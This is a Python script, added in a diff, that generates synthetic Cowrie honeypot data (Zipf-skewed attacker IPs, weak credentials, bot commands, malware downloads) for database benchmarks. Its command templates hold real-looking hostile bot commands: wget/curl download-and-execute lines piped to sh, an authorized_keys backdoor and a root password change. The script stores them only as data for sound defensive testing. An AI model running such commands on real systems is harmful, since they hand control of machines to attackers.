@@ -0,0 +1,334 @@
+#!/usr/bin/env python3
+"""
+Synthetic Cowrie Load Generator
+Fills a stand-in Cowrie database (the sql/init.sql tables) with sessions,
+auth attempts, commands and downloads whose attacker IPs, credentials,
+commands and malware hashes follow a Zipf-like skew, so a few sources and
+passwords dominate the way they do on a real honeypot. Used by the
+benchmarks; `python3 cowrie_loadgen.py --sessions N` fills a database directly.
+"""
+
+import argparse
+import csv
+import os
+import random
+import re
+import sys
+from datetime import datetime, timedelta, timezone
+
+import mysql.connector
+from mysql.connector import Error
+
+SQL_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), "sql")
+
+# Databases the generator refuses to drop and recreate
+PROTECTED_DATABASES = ("cowrie", "honeypot_data", "mysql", "information_schema", "sys")
+
+# Zipf exponent of the IP, credential, command and hash popularity
+DEFAULT_SKEW = 1.1
+
+# Source rows per INSERT statement
+LOAD_CHUNK_SIZE = 1000
+
+COMMON_USERNAMES = (
+    "root", "admin", "user", "ubuntu", "test", "oracle", "pi", "support",
+    "guest", "postgres", "ftpuser", "git", "deploy", "centos", "hadoop",
+)
+COMMON_PASSWORDS = (
+    "123456", "password", "admin", "root", "12345678", "1234", "123456789",
+    "qwerty", "raspberry", "12345", "111111", "toor", "changeme", "admin123",
+    "P@ssw0rd", "letmein", "default", "ubnt", "support", "abc123",
+)
+# Commands as bots send them; {host}, {name} and {hex} vary per session so
+# the fingerprints (command_fingerprint.py) see realistic campaign variants
+COMMAND_TEMPLATES = (
+    "uname -a",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "free -m | grep Mem | awk '{{print $2 ,$3, $4, $5, $6, $7}}'",
+    "ls -lh $(which ls)",
+    "crontab -l",
+    "w",
+    "cd /tmp || cd /var/run || cd /mnt; wget http://{host}/{name}; chmod +x {name}; ./{name}",
+    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA{hex} mdrfckr\">>.ssh/authorized_keys",
+    "echo -e \"\\x{hex}\" > /tmp/.{name}",
+    "curl -s http://{host}/x.sh | sh",
+    "busybox tftp -g -r {name} {host}",
+    "nproc",
+    "cat /etc/issue",
+    "ps -ef | grep '[Mm]iner'",
+    "echo root:{hex} | chpasswd",
+)
+COUNTRIES = (
+    "China", "United States", "Russia", "India", "Brazil", "Vietnam",
+    "Indonesia", "Germany", "South Korea", "Netherlands", "Singapore",
+    "France", "Iran", "Taiwan", "United Kingdom", "Hong Kong", "Ukraine",
+    "Turkey", "Japan", "Mexico", "Argentina", "Thailand", "Egypt", "Canada",
+)
+CLIENT_VERSIONS = (
+    "SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-OpenSSH_7.4",
+    "SSH-2.0-PuTTY_Release_0.76", "SSH-2.0-paramiko_2.11.0",
+)
+
+
+def utc_now():
+    """Naive UTC now, the form Cowrie stores its DATETIME columns in"""
+    return datetime.now(timezone.utc).replace(tzinfo=None)
+
+
+def sql_statements(path):
+    """
+    Statements of a SQL script as the mysql client would send them:
+    comment lines dropped, DELIMITER blocks (routines) kept whole
+    """
+    statements = []
+    delimiter = ";"
+    current = []
+    with open(path, encoding="utf-8") as f:
+        for line in f:
+            stripped = line.strip()
+            if stripped.startswith("--"):
+                continue
+            if stripped.upper().startswith("DELIMITER"):
+                delimiter = stripped.split()[1]
+                continue
+            current.append(line)
+            if stripped.endswith(delimiter):
+                statement = "".join(current).strip()[: -len(delimiter)].strip().rstrip(";")
+                if statement:
+                    statements.append(statement)
+                current = []
+    statement = "".join(current).strip().rstrip(";")
+    if statement:
+        statements.append(statement)
+    return statements
+
+
+def reset_database(conn, database, *scripts):
+    """
+    Drop and recreate `database` and run schema scripts from sql/ in it,
+    skipping the scripts' own CREATE DATABASE / USE statements
+    """
+    if database.lower() in PROTECTED_DATABASES:
+        raise ValueError(f"refusing to recreate the {database} database")
+    if not re.fullmatch(r"\w+", database):
+        raise ValueError(f"invalid database name: {database!r}")
+    cursor = conn.cursor()
+    cursor.execute(f"DROP DATABASE IF EXISTS `{database}`")
+    cursor.execute(
+        f"CREATE DATABASE `{database}` CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci"
+    )
+    cursor.execute(f"USE `{database}`")
+    for script in scripts:
+        for statement in sql_statements(os.path.join(SQL_DIR, script)):
+            if re.match(r"(CREATE\s+DATABASE|USE)\b", statement, re.IGNORECASE):
+                continue
+            cursor.execute(statement)
+    conn.commit()
+    cursor.close()
+
+
+class ZipfChoice:
+    """Draws items so the k-th most popular has weight 1 / k^skew"""
+
+    def __init__(self, items, rng, skew=DEFAULT_SKEW):
+        self.items = list(items)
+        self.rng = rng
+        total = 0.0
+        self.cum_weights = []
+        for rank in range(1, len(self.items) + 1):
+            total += 1.0 / rank**skew
+            self.cum_weights.append(total)
+
+    def __call__(self):
+        return self.rng.choices(self.items, cum_weights=self.cum_weights)[0]
+
+
+class SyntheticCowrie:
+    """
+    Deterministic (per seed) generator of Cowrie rows. Session ids are
+    unique across calls, so one generator can keep feeding a database.
+    """
+
+    def __init__(self, seed=0, attackers=1000, skew=DEFAULT_SKEW):
+        self.rng = random.Random(seed)
+        rng = self.rng
+        self._next_session = 0
+        self._seed_tag = f"{seed & 0xFFFF:04x}"
+
+        ips = set()
+        while len(ips) < attackers:
+            # Public unicast ranges only, so sanitize_ip() leaves them alone
+            first = rng.choice([i for i in range(11, 224) if i not in (127, 169, 172, 192)])
+            ips.add(f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
+        self.ip = ZipfChoice(sorted(ips, key=lambda _: rng.random()), rng, skew)
+
+        usernames = list(COMMON_USERNAMES) + [f"user{i}" for i in range(500)]
+        passwords = list(COMMON_PASSWORDS) + [
+            "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
+            for _ in range(5000)
+        ]
+        self.username = ZipfChoice(usernames, rng, skew)
+        self.password = ZipfChoice(passwords, rng, skew)
+        self.command = ZipfChoice(COMMAND_TEMPLATES, rng, skew)
+        self.malware = ZipfChoice(
+            [f"{rng.getrandbits(256):064x}" for _ in range(200)], rng, skew
+        )
+        self.download_host = ZipfChoice(
+            [f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+             for _ in range(50)],
+            rng,
+            skew,
+        )
+
+    def _session_id(self):
+        self._next_session += 1
+        return f"{self._seed_tag}{self._next_session:08x}"
+
+    def _command_text(self):
+        rng = self.rng
+        return self.command().format(
+            host=self.download_host(),
+            name="".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8)),
+            hex=f"{rng.getrandbits(64):016x}",
+        )
+
+    def write_geoip_csv(self, path):
+        """
+        Offline GeoIP ranges (geoip.py's CSV format) covering the /24 of
+        every attacker IP, with a skewed spread of countries
+        """
+        country = ZipfChoice(COUNTRIES, random.Random(self._seed_tag))
+        prefixes = sorted({ip.rsplit(".", 1)[0] for ip in self.ip.items})
+        with open(path, "w", newline="", encoding="utf-8") as f:
+            writer = csv.writer(f)
+            writer.writerow(("start_ip", "end_ip", "country", "region", "city", "asn"))
+            for prefix in prefixes:
+                writer.writerow((f"{prefix}.0", f"{prefix}.255", country(), "", "", ""))
+
+    def generate(self, sessions, start, end, open_fraction=0.0):
+        """
+        Rows for `sessions` new sessions starting between start and end.
+        Returns a dict of row lists for the sessions, auth, input and
+        downloads tables (child rows without their AUTO_INCREMENT id);
+        about open_fraction of the sessions are left without an endtime.
+        """
+        rng = self.rng
+        span = max((end - start).total_seconds(), 0.0)
+        rows = {"sessions": [], "auth": [], "input": [], "downloads": []}
+        starts = sorted(start + timedelta(seconds=rng.random() * span) for _ in range(sessions))
+
+        for starttime in starts:
+            session = self._session_id()
+            ip = self.ip()
+            at = starttime
+            # Most sessions are a handful of failed guesses; a few get in
+            logged_in = False
+            for _ in range(min(int(rng.expovariate(1 / 3)) + 1, 30)):
+                at += timedelta(seconds=rng.uniform(0.2, 3))
+                logged_in = rng.random() < 0.08
+                rows["auth"].append(
+                    (session, int(logged_in), self.username(), self.password(), at)
+                )
+                if logged_in:
+                    break
+
+            if logged_in:
+                for _ in range(rng.randint(1, 12)):
+                    at += timedelta(seconds=rng.uniform(0.1, 5))
+                    rows["input"].append((session, at, int(rng.random() < 0.9), self._command_text()))
+                if rng.random() < 0.3:
+                    at += timedelta(seconds=rng.uniform(1, 10))
+                    host = self.download_host()
+                    name = f"{rng.getrandbits(32):08x}"
+                    rows["downloads"].append(
+                        (session, at, f"http://{host}/{name}", f"var/lib/cowrie/downloads/{name}", self.malware())
+                    )
+
+            endtime = None
+            if rng.random() >= open_fraction:
+                endtime = at + timedelta(seconds=rng.uniform(0.5, 30))
+            rows["sessions"].append(
+                (session, starttime, endtime, "sensor-1", ip, "80x24", rng.choice(CLIENT_VERSIONS))
+            )
+        return rows
+
+
+def insert_rows(conn, rows):
+    """Insert generated rows in the source database; returns events written"""
+    statements = (
+        ("sessions", "INSERT INTO sessions (id, starttime, endtime, sensor, ip, termsize, client) "
+                     "VALUES (%s, %s, %s, %s, %s, %s, %s)"),
+        ("auth", "INSERT INTO auth (session, success, username, password, timestamp) "
+                 "VALUES (%s, %s, %s, %s, %s)"),
+        ("input", "INSERT INTO input (session, timestamp, success, input) VALUES (%s, %s, %s, %s)"),
+        ("downloads", "INSERT INTO downloads (session, timestamp, url, output_file, shasum) "
+                      "VALUES (%s, %s, %s, %s, %s)"),
+    )
+    cursor = conn.cursor()
+    written = 0
+    for table, sql in statements:
+        table_rows = rows[table]
+        for start in range(0, len(table_rows), LOAD_CHUNK_SIZE):
+            cursor.executemany(sql, table_rows[start : start + LOAD_CHUNK_SIZE])
+        written += len(table_rows)
+    conn.commit()
+    cursor.close()
+    return written
+
+
+def close_sessions(conn, session_ids, endtime):
+    """Give still-open source sessions an end time, as Cowrie does on disconnect"""
+    cursor = conn.cursor()
+    for start in range(0, len(session_ids), LOAD_CHUNK_SIZE):
+        chunk = session_ids[start : start + LOAD_CHUNK_SIZE]
+        placeholders = ", ".join(["%s"] * len(chunk))
+        cursor.execute(
+            f"UPDATE sessions SET endtime = %s WHERE id IN ({placeholders}) AND endtime IS NULL",
+            [endtime] + list(chunk),
+        )
+    conn.commit()
+    cursor.close()
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Fill a stand-in Cowrie database with synthetic attacks")
+    parser.add_argument("--sessions", type=int, default=10000, help="sessions to generate (default: 10000)")
+    parser.add_argument("--attackers", type=int, default=None, help="distinct attacker IPs (default: sessions / 20)")
+    parser.add_argument("--days", type=float, default=7, help="spread sessions over the last N days (default: 7)")
+    parser.add_argument("--skew", type=float, default=DEFAULT_SKEW, help=f"Zipf exponent (default: {DEFAULT_SKEW})")
+    parser.add_argument("--seed", type=int, default=0)
+    parser.add_argument("--reset", action="store_true", help="drop and recreate the database from sql/init.sql first")
+    parser.add_argument("--host", default="localhost")
+    parser.add_argument("--port", type=int, default=3306)
+    parser.add_argument("--user", default="root")
+    parser.add_argument("--password", default=os.environ.get("BENCH_DB_PASSWORD", ""))
+    parser.add_argument("--database", default="cowrie_bench")
+    args = parser.parse_args()
+
+    try:
+        conn = mysql.connector.connect(
+            host=args.host, port=args.port, user=args.user, password=args.password
+        )
+    except Error as e:
+        print(f"✗ Could not connect as {args.user}: {e}")
+        return 1
+
+    try:
+        if args.reset:
+            reset_database(conn, args.database, "init.sql")
+        else:
+            conn.database = args.database
+        generator = SyntheticCowrie(
+            args.seed, args.attackers or max(args.sessions // 20, 1), args.skew
+        )
+        end = utc_now()
+        rows = generator.generate(args.sessions, end - timedelta(days=args.days), end)
+        written = insert_rows(conn, rows)
+        print(f"✓ Wrote {args.sessions} sessions ({written} rows) to {args.database}")
+        return 0
+    finally:
+        conn.close()
+
+
+if __name__ == "__main__":
+    sys.exit(main())